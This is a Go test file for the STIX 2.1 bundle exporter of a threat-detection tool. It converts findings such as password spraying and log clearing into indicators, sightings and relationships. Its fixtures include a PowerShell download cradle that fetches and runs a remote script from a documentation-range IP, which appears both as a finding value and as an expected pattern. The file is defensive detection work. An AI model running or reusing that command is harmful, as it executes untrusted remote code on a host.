package stix

import (
	"bytes"
	"encoding/json"
	"errors"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/ttpmap/ttpmap/attack"
	"github.com/ttpmap/ttpmap/finding"
	"github.com/ttpmap/ttpmap/internal/golden"
)

var fixedNow = func() time.Time { return time.Date(2026, 11, 23, 9, 0, 0, 123456789, time.UTC) }

var kbOnce = sync.OnceValues(attack.Embedded)

func testKB(t testing.TB) *attack.KB {
	t.Helper()
	kb, err := kbOnce()
	if err != nil {
		t.Fatal(err)
	}
	return kb
}

// storyFindings are three realistic findings: a password spray from one
// IP, an encoded PowerShell command line with quotes and backslashes, and
// a log clear with no observable.
func storyFindings() []*finding.Finding {
	return []*finding.Finding{
		{
			EventID:         "3f1c0a9e2b7d4c55a1e0b6d2c8f4a901",
			Timestamp:       time.Date(2026, 11, 23, 7, 41, 2, 0, time.UTC),
			Source:          "203.0.113.45",
			Destination:     "DC01",
			TechniqueIDs:    []string{"T1110.003"},
			Tactics:         []string{"credential-access"},
			ConfidenceScore: 0.85,
			RelatedIndicators: []finding.Indicator{
				{ID: "ipv4-addr--1", Type: "ipv4-addr", Value: "203.0.113.45", Tags: []string{"IpAddress"}},
				{ID: "user-account--2", Type: "user-account", Value: "administrator", Tags: []string{"TargetUserName"}},
			},
			EventType:   "threat",
			Severity:    "high",
			Description: "Password Spraying From One Source: 12 accounts failed to log on from 203.0.113.45 within 5 minutes.",
			Host:        "DC01",
			User:        "administrator",
			RuleID:      "5b1e3a34-8f21-4c7e-9d0a-7f7e2f6a1b11",
			RuleTitle:   "Password Spraying From One Source",
			Metadata: finding.Metadata{TechniqueDetails: []finding.TechniqueDetail{
				{ID: "T1110.003", Name: "Password Spraying", Tactics: []string{"credential-access"}, URL: "https://attack.mitre.org/techniques/T1110/003"},
			}},
		},
		{
			EventID:         "9a8b7c6d5e4f30211203f4e5d6c7b8a9",
			Timestamp:       time.Date(2026, 11, 23, 7, 44, 10, 250_000_000, time.UTC),
			TechniqueIDs:    []string{"T1059.001", "T1027"},
			ConfidenceScore: 0.65,
			RelatedIndicators: []finding.Indicator{
				{Type: "user-account", Value: "jdoe"},
				{Type: "process", Value: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`},
				{Type: "command-line", Value: `powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.45/a.ps1')" > C:\Temp\o'k.txt`},
				{Type: "file-hash", Value: "SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,IMPHASH=00000000000000000000000000000000"},
			},
			EventType:   "threat",
			Severity:    "medium",
			Description: "PowerShell Download Cradle: PowerShell downloads and runs a script.",
			Host:        "WS01",
			User:        `CORP\jdoe`,
			RuleID:      "b2c3d4e5-0000-4000-8000-000000000002",
			RuleTitle:   "PowerShell Download Cradle",
		},
		{
			EventID:         "ec87763c064a42b87f60b8372bc61163",
			Timestamp:       time.Date(2026, 11, 23, 7, 48, 55, 0, time.UTC),
			TechniqueIDs:    []string{"T1070.001"},
			ConfidenceScore: 0.8,
			EventType:       "threat",
			Severity:        "high",
			Description:     "Security Event Log Cleared: The Security audit log was cleared (1102).",
			Host:            "WS01",
			RuleID:          "1e72d603-f206-4a5f-a64d-665c6fa94c91",
			RuleTitle:       "Security Event Log Cleared",
		},
	}
}

func write(t *testing.T, kb *attack.KB, fs []*finding.Finding) []byte {
	t.Helper()
	b := NewBundler(kb, Options{Now: fixedNow})
	for _, f := range fs {
		b.Add(f)
	}
	var buf bytes.Buffer
	n, err := b.WriteTo(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if n != int64(buf.Len()) {
		t.Errorf("WriteTo = %d bytes, wrote %d", n, buf.Len())
	}
	return buf.Bytes()
}

func TestGolden(t *testing.T) {
	t.Parallel()
	got := write(t, testKB(t), storyFindings())
	validate(t, got)
	golden.Check(t, filepath.Join("testdata", "golden.json"), got)
	// WriteTo and Bundle agree.
	var fromJSON Bundle
	if err := json.Unmarshal(got, &fromJSON); err != nil {
		t.Fatal(err)
	}
	b := NewBundler(testKB(t), Options{Now: fixedNow})
	for _, f := range storyFindings() {
		b.Add(f)
	}
	direct := b.Bundle()
	if fromJSON.ID != direct.ID || len(fromJSON.Objects) != len(direct.Objects) || b.Len() != len(direct.Objects) {
		t.Errorf("WriteTo bundle %s (%d objects) != Bundle() %s (%d objects, Len %d)",
			fromJSON.ID, len(fromJSON.Objects), direct.ID, len(direct.Objects), b.Len())
	}
}

func TestContent(t *testing.T) {
	t.Parallel()
	bundle := decode(t, write(t, testKB(t), storyFindings()))
	count := map[string]int{}
	byName := map[string]map[string]any{}
	for _, o := range bundle.objects {
		count[o["type"].(string)]++
		if n, ok := o["name"].(string); ok {
			byName[n] = o
		}
	}
	// 4 techniques, 3 indicators, 4 relationships, 3 sightings, 1 identity.
	want := map[string]int{"identity": 1, "attack-pattern": 4, "indicator": 3, "relationship": 4, "sighting": 3}
	for typ, n := range want {
		if count[typ] != n {
			t.Errorf("%d %s objects, want %d", count[typ], typ, n)
		}
	}
	spray := byName["Password Spraying From One Source"]
	if spray == nil {
		t.Fatal("no indicator named after the rule title")
	}
	tests := []struct {
		obj  map[string]any
		key  string
		want any
	}{
		{spray, "pattern", "[ipv4-addr:value = '203.0.113.45'] AND [user-account:user_id = 'administrator']"},
		{spray, "valid_from", "2026-11-23T07:41:02.000Z"},
		{spray, "confidence", 85.0},
		{spray, "pattern_type", "stix"},
		{spray, "labels", []any{"mitre_attack:T1110.003", "severity:high"}},
		{spray, "external_references", []any{map[string]any{"source_name": "mitre-attack", "external_id": "T1110.003", "url": "https://attack.mitre.org/techniques/T1110/003"}}},
		{byName["Password Spraying"], "kill_chain_phases", []any{map[string]any{"kill_chain_name": "mitre-attack", "phase_name": "credential-access"}}},
		{byName["Security Event Log Cleared"], "pattern", "[x-ttpmap-event:rule_id = '1e72d603-f206-4a5f-a64d-665c6fa94c91']"},
		{byName["PowerShell Download Cradle"], "labels", []any{"mitre_attack:T1059.001", "mitre_attack:T1027", "severity:medium"}},
		{byName["ttpmap"], "identity_class", "system"},
	}
	for _, tt := range tests {
		if tt.obj == nil {
			t.Errorf("missing object for %s", tt.key)
			continue
		}
		got, _ := json.Marshal(tt.obj[tt.key])
		want, _ := json.Marshal(tt.want)
		if !bytes.Equal(got, want) {
			t.Errorf("%s %s = %s, want %s", tt.obj["name"], tt.key, got, want)
		}
	}
	ps := byName["PowerShell Download Cradle"]["pattern"].(string)
	for _, part := range []string{
		`[process:image_ref.name = 'powershell.exe' AND process:image_ref.parent_directory_ref.path = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0']`,
		`[process:command_line = 'powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.45/a.ps1\')" > C:\\Temp\\o\'k.txt']`,
		`[file:hashes.'SHA-256' = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08']`,
	} {
		if !strings.Contains(ps, part) {
			t.Errorf("pattern %s\nlacks %s", ps, part)
		}
	}
}

func TestDeterminism(t *testing.T) {
	t.Parallel()
	kb := testKB(t)
	a := write(t, kb, storyFindings())
	b := write(t, kb, storyFindings())
	if !bytes.Equal(a, b) {
		t.Fatal("two runs differ")
	}
	// Order of Add does not matter; duplicates only raise the sighting count.
	fs := storyFindings()
	rev := []*finding.Finding{fs[2], fs[1], fs[0]}
	if c := write(t, kb, rev); !bytes.Equal(a, c) {
		t.Error("bundle depends on the order of findings")
	}
	// A different Now changes timestamps, not ids.
	other := NewBundler(kb, Options{Now: func() time.Time { return time.Unix(0, 0) }})
	for _, f := range fs {
		other.Add(f)
	}
	if got, want := other.Bundle().ID, decode(t, a).id; got != want {
		t.Errorf("bundle id depends on Now: %s vs %s", got, want)
	}
}

func TestDuplicateFindings(t *testing.T) {
	t.Parallel()
	f := storyFindings()[0]
	later := *f
	later.Timestamp = f.Timestamp.Add(90 * time.Second)
	earlier := *f
	earlier.Timestamp = f.Timestamp.Add(-30 * time.Second)
	b := NewBundler(testKB(t), Options{Now: fixedNow})
	for _, x := range []*finding.Finding{f, &later, &earlier, nil} {
		b.Add(x)
	}
	bundle := b.Bundle()
	if len(bundle.Objects) != 5 {
		t.Fatalf("%d objects, want 5 (identity, attack-pattern, indicator, relationship, sighting)", len(bundle.Objects))
	}
	s := bundle.Objects[4]
	if s.Type != "sighting" || *s.Count != 3 || s.FirstSeen != "2026-11-23T07:40:32.000Z" || s.LastSeen != "2026-11-23T07:42:32.000Z" {
		t.Errorf("sighting = %s count %d %s..%s", s.Type, *s.Count, s.FirstSeen, s.LastSeen)
	}
	if ind := bundle.Objects[2]; ind.ValidFrom != s.FirstSeen {
		t.Errorf("valid_from %s, want first_seen %s", ind.ValidFrom, s.FirstSeen)
	}
}

func TestNoKB(t *testing.T) {
	t.Parallel()
	// Without a knowledge base, names and tactics come from the details;
	// an unknown technique still gets an attack-pattern named by its id.
	f := storyFindings()[0]
	f.TechniqueIDs = append(f.TechniqueIDs, "t9999")
	f.Metadata.TechniqueDetails[0].Tactics = []string{"Credential Access"}
	bundle := NewBundler(nil, Options{Identity: "SOC sensor", Now: fixedNow}).bundleOf(f)
	raw, _ := json.Marshal(bundle)
	validate(t, raw)
	var names, phases []string
	for _, o := range bundle.Objects {
		if o.Type == "attack-pattern" {
			names = append(names, o.Name+" "+o.ExternalReferences[0].URL)
			for _, p := range o.KillChainPhases {
				phases = append(phases, p.PhaseName)
			}
		}
		if o.Type == "identity" && o.Name != "SOC sensor" {
			t.Errorf("identity name %q", o.Name)
		}
	}
	slices.Sort(names)
	want := []string{"Password Spraying https://attack.mitre.org/techniques/T1110/003", "T9999 https://attack.mitre.org/techniques/T9999"}
	if !slices.Equal(names, want) || !slices.Equal(phases, []string{"credential-access"}) {
		t.Errorf("attack-patterns %q phases %q, want %q [credential-access]", names, phases, want)
	}
}

// bundleOf adds fs and returns the bundle (test helper).
func (b *Bundler) bundleOf(fs ...*finding.Finding) Bundle {
	for _, f := range fs {
		b.Add(f)
	}
	return b.Bundle()
}

func TestPattern(t *testing.T) {
	t.Parallel()
	ind := func(typ, v string) []finding.Indicator { return []finding.Indicator{{Type: typ, Value: v}} }
	tests := []struct {
		name string
		f    finding.Finding
		want string
	}{
		{"ipv4", finding.Finding{RelatedIndicators: ind("ipv4-addr", "203.0.113.45")}, "[ipv4-addr:value = '203.0.113.45']"},
		{"ipv6", finding.Finding{RelatedIndicators: ind("ipv6-addr", "2001:db8::1")}, "[ipv6-addr:value = '2001:db8::1']"},
		{"quote", finding.Finding{RelatedIndicators: ind("user-account", "o'brien")}, `[user-account:user_id = 'o\'brien']`},
		{"backslash", finding.Finding{RelatedIndicators: ind("user-account", `CORP\jdoe`)}, `[user-account:user_id = 'CORP\\jdoe']`},
		{"both", finding.Finding{RelatedIndicators: ind("command-line", `cmd /c echo \'x\\`)}, `[process:command_line = 'cmd /c echo \\\'x\\\\']`},
		{"newline kept", finding.Finding{RelatedIndicators: ind("command-line", "a\nb")}, "[process:command_line = 'a\nb']"},
		{"file", finding.Finding{RelatedIndicators: ind("file", "/tmp/x.sh")}, "[file:name = 'x.sh' AND file:parent_directory_ref.path = '/tmp']"},
		{"bare file", finding.Finding{RelatedIndicators: ind("file", "x.sh")}, "[file:name = 'x.sh']"},
		{"registry", finding.Finding{RelatedIndicators: ind("registry-key", `HKLM\Software\Run`)}, `[windows-registry-key:key = 'HKLM\\Software\\Run']`},
		{"domain", finding.Finding{RelatedIndicators: ind("domain-name", "evil.example")}, "[domain-name:value = 'evil.example']"},
		{"bare md5", finding.Finding{RelatedIndicators: ind("file-hash", "D41D8CD98F00B204E9800998ECF8427E")}, "[file:hashes.'MD5' = 'd41d8cd98f00b204e9800998ecf8427e']"},
		{"hashes", finding.Finding{RelatedIndicators: ind("file-hash", "MD5=aa,SHA1=bb")}, "[file:hashes.'MD5' = 'aa' OR file:hashes.'SHA-1' = 'bb']"},
		{"imphash only", finding.Finding{RuleID: "r1", RelatedIndicators: ind("file-hash", "IMPHASH=aa")}, "[x-ttpmap-event:rule_id = 'r1']"},
		{"scheduled task has no SCO", finding.Finding{RuleID: "r2", RelatedIndicators: ind("scheduled-task", `\T`)}, "[x-ttpmap-event:rule_id = 'r2']"},
		{"dash ignored", finding.Finding{RuleID: "r3", RelatedIndicators: ind("user-account", "-")}, "[x-ttpmap-event:rule_id = 'r3']"},
		{"source ip fallback", finding.Finding{Source: "10.0.0.9", RuleID: "r"}, "[ipv4-addr:value = '10.0.0.9']"},
		{"rule id quoted", finding.Finding{RuleID: `it's`}, `[x-ttpmap-event:rule_id = 'it\'s']`},
		{"event id fallback", finding.Finding{EventID: "e1"}, "[x-ttpmap-event:event_id = 'e1']"},
		{"duplicates", finding.Finding{RelatedIndicators: append(ind("user-account", "a"), ind("user-account", "a")...)}, "[user-account:user_id = 'a']"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Pattern(&tt.f); got != tt.want {
				t.Errorf("Pattern = %s, want %s", got, tt.want)
			}
		})
	}
}

func TestUUIDv5(t *testing.T) {
	t.Parallel()
	dns := uuid{0x6b, 0xa7, 0xb8, 0x10, 0x9d, 0xad, 0x11, 0xd1, 0x80, 0xb4, 0x00, 0xc0, 0x4f, 0xd4, 0x30, 0xc8}
	tests := []struct {
		ns   uuid
		name string
		want string
	}{
		// Python: uuid.uuid5(uuid.NAMESPACE_DNS, "python.org").
		{dns, "python.org", "886313e1-3b8a-5372-9b90-0c9aee199e5d"},
		{namespaceURL, "https://github.com/ttpmap/ttpmap/stix", Namespace},
	}
	for _, tt := range tests {
		if got := uuidV5(tt.ns, tt.name).String(); got != tt.want {
			t.Errorf("uuidV5(%q) = %s, want %s", tt.name, got, tt.want)
		}
	}
	if namespace.String() != Namespace {
		t.Errorf("namespace bytes %s != Namespace %s", namespace, Namespace)
	}
}

func TestConfidence(t *testing.T) {
	t.Parallel()
	for in, want := range map[float64]int{-1: 0, 0: 0, 0.004: 0, 0.5: 50, 0.855: 86, 1: 100, 7: 100} {
		if got := confidence(in); got != want {
			t.Errorf("confidence(%v) = %d, want %d", in, got, want)
		}
	}
}

var errBroken = errors.New("broken pipe")

type failAfter struct{ n int }

func (f *failAfter) Write(p []byte) (int, error) {
	if f.n <= 0 {
		return 0, errBroken
	}
	f.n--
	return len(p), nil
}

func TestWriteError(t *testing.T) {
	t.Parallel()
	for _, n := range []int{0, 1, 3} {
		b := NewBundler(testKB(t), Options{Now: fixedNow})
		b.Add(storyFindings()[0])
		if _, err := b.WriteTo(&failAfter{n: n}); !errors.Is(err, errBroken) {
			t.Errorf("after %d writes: err = %v, want broken pipe", n, err)
		}
	}
}

func TestEmpty(t *testing.T) {
	t.Parallel()
	got := write(t, nil, nil)
	validate(t, got)
	if b := decode(t, got); len(b.objects) != 1 {
		t.Errorf("empty bundle has %d objects, want the identity only", len(b.objects))
	}
}

// decoded is a bundle read back as plain JSON.
type decoded struct {
	typ, id string
	objects []map[string]any
}

func decode(t *testing.T, raw []byte) decoded {
	t.Helper()
	var v struct {
		Type    string           `json:"type"`
		ID      string           `json:"id"`
		Objects []map[string]any `json:"objects"`
	}
	if err := json.Unmarshal(raw, &v); err != nil {
		t.Fatalf("bundle is not JSON: %v", err)
	}
	return decoded{v.Type, v.ID, v.Objects}
}

var (
	reID   = regexp.MustCompile(`^([a-z][a-z0-9-]*[a-z0-9])--[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$`)
	reTime = regexp.MustCompile(`^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$`)
)

// validate checks the STIX 2.1 rules a consumer relies on: bundle shape,
// common properties, the required properties of each type, references to
// objects of the right type in the bundle, unique ids and sort order.
func validate(t *testing.T, raw []byte) {
	t.Helper()
	b := decode(t, raw)
	if b.typ != "bundle" || !strings.HasPrefix(b.id, "bundle--") || !reID.MatchString(b.id) {
		t.Errorf("bundle type %q id %q", b.typ, b.id)
	}
	types := map[string]string{}
	var order []string
	for _, o := range b.objects {
		id, _ := o["id"].(string)
		typ, _ := o["type"].(string)
		m := reID.FindStringSubmatch(id)
		if m == nil || m[1] != typ {
			t.Errorf("id %q does not match type %q", id, typ)
		}
		if _, dup := types[id]; dup {
			t.Errorf("duplicate id %s", id)
		}
		types[id] = typ
		order = append(order, typ+" "+id)
	}
	rank := map[string]int{"identity": 0, "attack-pattern": 1, "indicator": 2, "relationship": 3, "sighting": 4}
	if !slices.IsSortedFunc(b.objects, func(x, y map[string]any) int {
		if d := rank[x["type"].(string)] - rank[y["type"].(string)]; d != 0 {
			return d
		}
		return strings.Compare(x["id"].(string), y["id"].(string))
	}) {
		t.Errorf("objects not sorted: %q", order)
	}
	ref := func(o map[string]any, key, wantType string) {
		t.Helper()
		v, _ := o[key].(string)
		if got, ok := types[v]; !ok || got != wantType {
			t.Errorf("%s %s = %q: want a %s in the bundle", o["id"], key, v, wantType)
		}
	}
	str := func(o map[string]any, keys ...string) {
		t.Helper()
		for _, k := range keys {
			if s, _ := o[k].(string); s == "" {
				t.Errorf("%s lacks %s", o["id"], k)
			}
		}
	}
	ts := func(o map[string]any, keys ...string) {
		t.Helper()
		for _, k := range keys {
			if s, _ := o[k].(string); !reTime.MatchString(s) {
				t.Errorf("%s %s = %q, want RFC 3339 UTC with milliseconds", o["id"], k, o[k])
			}
		}
	}
	for _, o := range b.objects {
		if o["spec_version"] != "2.1" {
			t.Errorf("%s spec_version %v", o["id"], o["spec_version"])
		}
		ts(o, "created", "modified")
		if o["modified"].(string) < o["created"].(string) {
			t.Errorf("%s modified before created", o["id"])
		}
		if o["type"] != "identity" {
			ref(o, "created_by_ref", "identity")
		}
		switch o["type"] {
		case "identity":
			str(o, "name", "identity_class")
		case "attack-pattern":
			str(o, "name")
			refs, _ := o["external_references"].([]any)
			if len(refs) == 0 {
				t.Errorf("%s has no external_references", o["id"])
			}
			for _, r := range refs {
				r := r.(map[string]any)
				if r["source_name"] != "mitre-attack" || r["external_id"] == "" || !strings.HasPrefix(r["url"].(string), "https://attack.mitre.org/") {
					t.Errorf("%s external reference %v", o["id"], r)
				}
			}
			phases, _ := o["kill_chain_phases"].([]any)
			for _, p := range phases {
				p := p.(map[string]any)
				if p["kill_chain_name"] != "mitre-attack" || p["phase_name"] == "" {
					t.Errorf("%s kill chain phase %v", o["id"], p)
				}
			}
		case "indicator":
			str(o, "name", "pattern", "pattern_type")
			ts(o, "valid_from")
			if o["pattern_type"] != "stix" {
				t.Errorf("%s pattern_type %v", o["id"], o["pattern_type"])
			}
			if p := o["pattern"].(string); !strings.HasPrefix(p, "[") || !strings.HasSuffix(p, "]") {
				t.Errorf("%s pattern %q", o["id"], p)
			}
			if c, ok := o["confidence"].(float64); !ok || c < 0 || c > 100 || c != float64(int(c)) {
				t.Errorf("%s confidence %v", o["id"], o["confidence"])
			}
			labels, _ := o["labels"].([]any)
			refs, _ := o["external_references"].([]any)
			for _, r := range refs {
				id := r.(map[string]any)["external_id"].(string)
				if !slices.Contains(labels, any("mitre_attack:"+id)) {
					t.Errorf("%s lacks label mitre_attack:%s", o["id"], id)
				}
			}
		case "relationship":
			if o["relationship_type"] != "indicates" {
				t.Errorf("%s relationship_type %v", o["id"], o["relationship_type"])
			}
			ref(o, "source_ref", "indicator")
			ref(o, "target_ref", "attack-pattern")
		case "sighting":
			ref(o, "sighting_of_ref", "indicator")
			ts(o, "first_seen", "last_seen")
			if o["last_seen"].(string) < o["first_seen"].(string) {
				t.Errorf("%s last_seen before first_seen", o["id"])
			}
			if c, _ := o["count"].(float64); c < 1 || c > 999999999 {
				t.Errorf("%s count %v", o["id"], o["count"])
			}
			where, _ := o["where_sighted_refs"].([]any)
			if len(where) == 0 {
				t.Errorf("%s has no where_sighted_refs", o["id"])
			}
			for _, w := range where {
				if types[w.(string)] != "identity" {
					t.Errorf("%s where_sighted_ref %v is not an identity in the bundle", o["id"], w)
				}
			}
		default:
			t.Errorf("unexpected object type %v", o["type"])
		}
	}
}

// unquote reads a STIX string literal at the start of s and returns its
// value and the rest, or ok false when it is malformed.
func unquote(s string) (v, rest string, ok bool) {
	if !strings.HasPrefix(s, "'") {
		return "", s, false
	}
	var b strings.Builder
	for i := 1; i < len(s); i++ {
		switch s[i] {
		case '\\':
			if i+1 >= len(s) || (s[i+1] != '\\' && s[i+1] != '\'') {
				return "", s, false
			}
			b.WriteByte(s[i+1])
			i++
		case '\'':
			return b.String(), s[i+1:], true
		default:
			b.WriteByte(s[i])
		}
	}
	return "", s, false
}

func FuzzQuote(f *testing.F) {
	for _, s := range []string{"", "plain", `o'brien`, `C:\Temp\`, `\'`, "'''", "a\nb"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		q := quote(s)
		v, rest, ok := unquote(q)
		if !ok || v != s || rest != "" {
			t.Fatalf("quote(%q) = %s does not read back: %q %q %v", s, q, v, rest, ok)
		}
		p := Pattern(&finding.Finding{RelatedIndicators: []finding.Indicator{{Type: "command-line", Value: s}}, RuleID: s})
		prefix := "[process:command_line = "
		if strings.TrimSpace(s) == "" || strings.TrimSpace(s) == "-" {
			prefix = "[x-ttpmap-event:rule_id = "
		}
		if s == "" {
			prefix = "[x-ttpmap-event:event_id = "
		}
		if !strings.HasPrefix(p, prefix) {
			t.Fatalf("Pattern = %s", p)
		}
		if _, rest, ok := unquote(strings.TrimPrefix(p, prefix)); !ok || rest != "]" {
			t.Fatalf("Pattern %s is malformed", p)
		}
	})
}
